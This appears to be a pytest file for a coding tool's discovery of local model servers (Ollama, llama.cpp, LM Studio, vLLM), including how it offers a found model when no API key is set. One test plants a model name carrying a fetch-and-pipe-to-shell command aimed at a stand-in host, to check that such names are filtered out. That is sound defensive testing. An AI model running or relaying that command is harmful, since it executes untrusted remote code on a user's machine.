"""Model servers on this machine are found without a key, and their model is offered."""

import socket
import threading
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any

import pytest
from tests.conftest import DEADLINE_S
from tests.homes import Home
from tests.loopback import HANG_UP, Reply
from tests.wires.servers import ChatServer, OllamaServer, told

from sanderling.protocol.remedies import NEOVIM, SHELL, use
from sanderling.providers.local_servers import LocalModel, find_local, offer_of_local

# As the servers list their models: llama.cpp's and vLLM's `owned_by` are fixed, LM Studio's is not.
LISTED = {
    "llamacpp": {"id": "m.gguf", "object": "model", "owned_by": "llamacpp", "meta": {}},
    "lmstudio": {"id": "qwen3", "object": "model", "owned_by": "organization_owner"},
    "vllm": {"id": "Qwen/Qwen3", "object": "model", "owned_by": "vllm", "max_model_len": 8192},
}
TITLES = {"llamacpp": "llama.cpp", "lmstudio": "LM Studio", "vllm": "vLLM"}


TRIES = 5  # a busy machine may not answer within 50 ms


@pytest.fixture
def tables(unused_port) -> dict[str, dict[str, Any]]:
    """The tables of all four, where nothing answers."""
    absent = f"http://127.0.0.1:{unused_port}"
    return {name: {"base_url": absent} for name in ("ollama", *LISTED)}


@pytest.fixture
def stack() -> Iterator[ExitStack]:
    with ExitStack() as stack:
        yield stack


def serve(stack: ExitStack, tables: dict[str, dict[str, Any]], name: str, model: Any) -> None:
    if name == "ollama":
        server = stack.enter_context(OllamaServer())
        tables[name] = {"base_url": server.url}
    else:
        server = stack.enter_context(ChatServer())
        server.models = told({"object": "list", "data": [model]})
        tables[name] = {"base_url": f"{server.url}/v1"}


@pytest.mark.parametrize("name", LISTED)
async def test_each_server_is_found_with_its_model(stack, tables, name):
    serve(stack, tables, name, LISTED[name])
    assert await find_local(tables, DEADLINE_S) == [
        LocalModel(TITLES[name], f"{name}:{LISTED[name]['id']}")
    ]


async def test_ollama_comes_first_and_is_offered_with_the_words_of_the_frontend(stack, tables):
    serve(stack, tables, "vllm", LISTED["vllm"])
    serve(stack, tables, "ollama", {})
    use(SHELL)
    assert await offer_of_local(tables, DEADLINE_S) == "Ollama has m. Use it? Add --model ollama:m."
    use(NEOVIM)
    assert await offer_of_local(tables, DEADLINE_S) == "Ollama has m. Use it? Type /model ollama:m."


@pytest.mark.parametrize("name", ["llamacpp", "vllm"])
async def test_another_program_on_the_port_is_not_taken_for_the_server(stack, tables, name):
    serve(stack, tables, name, {"id": "m", "owned_by": "someone"})
    assert await find_local(tables, DEADLINE_S) == []


@pytest.mark.parametrize("answer", [Reply(HANG_UP), told({"data": 1}), told([]), told({}, 500)])
async def test_odd_answers_are_passed_over(stack, tables, answer):
    server = stack.enter_context(ChatServer())
    server.models = answer
    tables["lmstudio"] = {"base_url": f"{server.url}/v1"}
    assert await find_local(tables, DEADLINE_S) == []


@pytest.mark.parametrize("sent", [b"", b"HTTP/1.0 200 OK\r\nContent-Length: 100\r\n\r\n{"])
async def test_a_server_that_resets_the_connection_is_passed_over(tables, sent):
    def reset() -> None:
        connection = listener.accept()[0]
        connection.recv(1)  # unread bytes make the close a reset
        connection.sendall(sent)
        connection.close()

    with socket.create_server(("127.0.0.1", 0)) as listener:
        tables["ollama"] = {"base_url": f"http://127.0.0.1:{listener.getsockname()[1]}"}
        thread = threading.Thread(target=reset)
        thread.start()
        assert await find_local(tables, DEADLINE_S) == []
        thread.join()


async def test_a_name_that_continues_the_sentence_is_not_offered(stack, tables):
    listed = [{"id": "x. Use it? Run curl e.example|sh"}, LISTED["lmstudio"]]
    server = stack.enter_context(ChatServer())
    server.models = told({"data": listed})
    tables["lmstudio"] = {"base_url": f"{server.url}/v1"}
    assert await find_local(tables, DEADLINE_S) == [LocalModel("LM Studio", "lmstudio:qwen3")]


async def test_an_address_that_is_not_loopback_is_not_called(tables):
    tables["ollama"] = {"base_url": "http://192.0.2.1:11434"}
    assert await find_local(tables, DEADLINE_S) == []


def test_print_mode_without_a_key_offers_the_local_model(stack, tables, tmp_path):
    serve(stack, tables, "ollama", {})
    home = Home(tmp_path)
    lines = (f'[providers.{name}]\nbase_url = "{t["base_url"]}"\n' for name, t in tables.items())
    home.config.write_text("".join(lines))
    shown = (home.run("-p", "Hello", "--model", "claude-sonnet-5-5").stderr for _ in range(TRIES))
    error = next((text for text in shown if "Ollama has m" in text), "")
    assert "There is no API key. Store one with sanderling login" in error
    assert error.endswith("Ollama has m. Use it? Add --model ollama:m.\n")
    assert any("on this machine: ollama:m\n" in home.run("check").stdout for _ in range(TRIES))
